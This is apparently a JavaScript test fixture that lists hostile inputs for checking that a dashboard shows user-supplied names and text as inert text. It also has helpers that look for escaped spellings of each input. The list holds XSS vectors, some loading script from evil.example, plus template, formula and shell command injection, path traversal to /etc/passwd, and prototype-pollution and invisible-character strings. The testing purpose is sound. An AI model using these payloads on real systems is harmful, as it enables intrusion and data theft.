// What somebody might write where a name or a text is expected, to have the dashboard do something else with it.

const RUN = "window.pwned=1;alert(1)";

export const PAYLOADS = [
  // Elements that run something by themselves.
  `<script>${RUN}</script>`,
  `<script src=//evil.example/x.js></script>`,
  `<SCRIPT>${RUN}</SCRIPT>`,
  `<scr<script>ipt>${RUN}</scr</script>ipt>`,
  `</script><script>${RUN}</script>`,
  `<img src=x onerror=${RUN}>`,
  `<img/src=x/onerror=alert(2)>`,
  `<IMG SRC="x" ONERROR="${RUN}">`,
  `<svg onload=${RUN}>`,
  `<svg><script>${RUN}</script></svg>`,
  `<svg><animate onbegin=${RUN} attributeName=x dur=1s>`,
  `<math><mtext><table><mglyph><style><img src=x onerror=${RUN}>`,
  `<body onload=${RUN}>`,
  `<iframe src="javascript:alert(1)"></iframe>`,
  `<iframe srcdoc="<script>parent.${RUN}</script>"></iframe>`,
  `<object data="javascript:alert(1)"></object>`,
  `<embed src="javascript:alert(1)">`,
  `<video><source onerror=${RUN}></video>`,
  `<audio src=x onerror=${RUN}>`,
  `<details open ontoggle=${RUN}>`,
  `<input autofocus onfocus=${RUN}>`,
  `<marquee onstart=${RUN}>`,
  `<style>@import 'javascript:alert(1)';</style>`,
  `<link rel=stylesheet href=//evil.example/x.css>`,
  `<meta http-equiv=refresh content="0;url=javascript:alert(1)">`,
  `<base href="//evil.example/">`,
  `<form action="javascript:alert(1)"><button>x</button></form>`,
  `<a href="javascript:alert(1)">x</a>`,
  `<template><script>${RUN}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${RUN}>">`,
  `<plaintext>`,
  `<!--><img src=x onerror=${RUN}>-->`,
  `<![CDATA[<img src=x onerror=${RUN}>]]>`,
  `<?xml version="1.0"?><x onclick=${RUN}>`,
  // Out of an attribute, a string, a template, a style.
  `"><img src=x onerror=${RUN}>`,
  `'><img src=x onerror=${RUN}>`,
  `" onmouseover="${RUN}" x="`,
  `' onfocus='${RUN}' autofocus='`,
  `\`-alert(1)-\``,
  `';alert(1);//`,
  `\\";alert(1);//`,
  `javascript:alert(1)`,
  `JaVaScRiPt:alert(1)`,
  `java\tscript:alert(1)`,
  `data:text/html,<script>alert(1)</script>`,
  `vbscript:msgbox(1)`,
  "${alert(1)}",
  "{{constructor.constructor('alert(1)')()}}",
  "{{7*7}}",
  "<%= 7*7 %>",
  "#{7*7}",
  "[[${7*7}]]",
  `width:expression(alert(1))`,
  `color:red;background:url(javascript:alert(1))`,
  // Text that is something else once it was read as HTML, Markdown or a URL.
  `&lt;script&gt;alert(1)&lt;/script&gt;`,
  `&#60;img src=x onerror=alert(1)&#62;`,
  `&amp;&nbsp;&copy;`,
  `%3Cscript%3Ealert(1)%3C/script%3E`,
  `[click](javascript:alert(1))`,
  `![x](x" onerror="alert(1))`,
  `**bold** _it_ ~~no~~ \`code\``,
  `=cmd|'/C calc'!A0`,
  `../../../../etc/passwd`,
  // Shells, to which lines are shown to be pasted.
  `'; touch pwned; '`,
  `$(touch pwned)`,
  "`touch pwned`",
  `a & touch pwned & b`,
  `"; touch pwned #`,
  `!!:p \\ 'x' "y" $HOME ~`,
  // Names that objects have already.
  `__proto__`,
  `constructor`,
  `prototype`,
  `toString`,
  `hasOwnProperty`,
  `__proto__.polluted`,
  // Characters that are not seen, turn the text around, or end it.
  `left\u202Eright\u202C`,
  `\u2066isolated\u2069\u200F`,
  `zero\u200Bwidth\uFEFF`,
  `nul\u0000nul<b>`,
  `bell\u0007\u001b[31mred\u001b[0m`,
  `line\nbreak\r\n<b>`,
  `\u2028line\u2029paragraph`,
  `\uFF1Cscript\uFF1Ealert(1)\uFF1C/script\uFF1E`,
  `Z\u0351\u036B\u0343\u0345a\u0300\u0301\u0302lgo`,
  `💥👨‍👩‍👧‍👦ﷺ`,
  `true`,
  `null`,
  `-1`,
  ` leading and trailing `,
  `${"long<b>".repeat(1200)}`,
];

/** As the dashboard shows what has no shape of its own. */
export const visible = (text) =>
  text.replace(/[\u0000-\u001f\u007f]/g, (one) =>
    String.fromCharCode(one === "\u007f" ? 0x2421 : 0x2400 + one.charCodeAt(0)),
  );

/** As the host writes out, in what functions log, what would act on a terminal or turn a line around. */
const writtenOut = (text) =>
  text.replace(
    /[\u0000-\u0008\u000b-\u001f\u007f-\u009f\u202a-\u202e\u2066-\u2069]/g,
    (one) => `\\u{${one.charCodeAt(0).toString(16)}}`,
  );

/** The beginning of it, which is enough to know it by; the last one is cut in many places. */
const START = 60;

/** Is it there, as text? In a list of log lines each of its lines is one. */
export function isShown(text, payload) {
  const wanted = payload.slice(0, START);
  const spellings = [wanted, visible(wanted), writtenOut(wanted)];
  return (
    spellings.some((one) => text.includes(one)) ||
    payload.split(/\r?\n/).every((line) => text.includes(line.slice(0, START)))
  );
}

/** For a sentence about it. */
export const short = (payload) => JSON.stringify(payload).slice(0, 60);
